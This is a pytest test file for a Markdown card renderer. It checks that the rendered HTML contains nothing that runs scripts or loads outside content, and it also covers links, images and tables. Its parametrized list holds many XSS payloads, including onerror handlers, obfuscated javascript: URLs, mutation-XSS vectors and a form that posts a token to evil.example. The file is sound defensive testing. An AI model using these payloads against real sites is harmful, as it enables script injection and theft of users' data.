"""A hostile card runs nothing, loads nothing and is still readable."""

import re
import sys
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.localhub.card import PageAddress, render
from bot.localhub.objects import make_tree, regular_file

PLACE = PageAddress(
    page="/org/m",
    commit="c" * 40,
    folder="",
    tree=make_tree(regular_file(p, b"x") for p in ("chart.png", "docs/a b.md", "docs/pic.JPG", "evil.svg")),
)


def html(text: str) -> str:
    return str(render(text, PLACE).html)


class Danger(HTMLParser):
    """Collects every tag and attribute that could run or load something."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in (
            "script",
            "iframe",
            "object",
            "embed",
            "svg",
            "math",
            "style",
            "link",
            "meta",
            "base",
            "form",
            "input",
        ):
            self.found.append(tag)
        for name, value in attrs:
            scheme = re.sub(r"[\0- ]", "", value or "").lower()
            if name.startswith("on") or name in ("style", "srcset", "formaction", "class"):
                self.found.append(f"{tag} {name}")
            if name in ("href", "src") and scheme.startswith(("javascript:", "data:", "vbscript:", "file:", "//")):
                self.found.append(f"{tag} {name}={value}")
            if name == "src" and not (value or "").startswith("/org/m/resolve/"):
                self.found.append(f"{tag} {name}={value}")


def dangers(text: str) -> list[str]:
    parser = Danger()
    parser.feed(html(text))
    parser.close()
    return parser.found


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src='https://evil.example/t.png'>",
        "![x](https://evil.example/t.png)",
        "![x](//evil.example/t.png)",
        "![x](evil.svg)",
        "![x](../../../etc/passwd.png)",
        "![x](data:image/png;base64,AAAA)",
        "[x](javascript:alert(1))",
        "<a href='java\nscript:alert(1)'>x</a>",
        "<a href='JaVaScRiPt:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](/\\evil.example)",
        "[x](//evil.example)",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=//evil.example></iframe>",
        "<form action=//evil.example><input name=token><button>Go</button></form>",
        "<style>body{display:none}</style>",
        "<p style='position:fixed;inset:0' onclick=alert(1)>x</p>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=x>",
        '<img alt="<table>" src="chart.png"><a title="\'><script>alert(1)</script>">x</a>',
        "`<script>alert(1)</script>`",
        "```html\n<img src=x onerror=alert(1)>\n```",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<details open ontoggle=alert(1)>x</details>",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    ],
)
def test_nothing_runs_and_nothing_is_loaded(text: str) -> None:
    assert dangers(text) == []


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            ["<", ">", '"', "'", "=", " ", "/", "\n", "`", "[", "](", ")", "|", "\\", "&#", "<!--", "-->", "<![CDATA[",
             "script", "img", "src", "onerror", "a", "href", "javascript:", "svg", "style", "table", "title"]
        ),
        max_size=40,
    ).map("".join)
)  # fmt: skip
def test_no_mixture_is_dangerous(text: str) -> None:
    assert dangers(text) == []


def test_images_of_the_repo_are_shown_and_others_counted() -> None:
    made = render("![a](chart.png) ![b](./docs/pic.JPG) ![c](none.png) <img src='https://x.example/y.png'>", PLACE)
    assert f'src="/org/m/resolve/{"c" * 40}/chart.png"' in made.html
    assert f'src="/org/m/resolve/{"c" * 40}/docs/pic.JPG"' in made.html
    assert made.html.count("src=") == 2
    assert made.left_out == 2


def test_links_lead_to_files_headings_and_the_web() -> None:
    assert f'href="/org/m/blob/{"c" * 40}/docs/a%20b.md"' in html("[x](docs/a%20b.md)")
    assert f'href="/org/m/tree/{"c" * 40}/docs"' in html("[x](docs/)")
    assert 'href="https://example.com/a?b=c"' in html("[x](https://example.com/a?b=c)")
    assert 'rel="noopener noreferrer nofollow"' in html("[x](https://example.com)")
    assert "href" not in html("[x](no/such/file)")
    page = html("[down](#how-to-run-it)\n\n## How to *run* it\n\n## How to run it")
    assert 'href="#card-how-to-run-it"' in page
    assert '<h2 id="card-how-to-run-it">' in page
    assert '<h2 id="card-how-to-run-it-1">' in page


def test_tables_keep_their_alignment() -> None:
    page = html("| a | b |\n|---|--:|\n| 1 | 2 |")
    assert '<th align="right">b</th>' in page
    assert '<td align="right">2</td>' in page


def test_without_the_two_libraries_the_text_is_shown_as_it_is(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "nh3", None)  # an import of it fails now
    page = html("# Title <b>x</b>")
    assert "phi-bot[hub]" in page
    assert "<pre># Title &lt;b&gt;x&lt;/b&gt;</pre>" in page


def test_a_very_long_text_is_shown_as_it_is() -> None:
    page = html("<b>x</b>" * 30_000)
    assert "too long to be rendered" in page
    assert "&lt;b&gt;x" in page
    assert "<b>" not in page
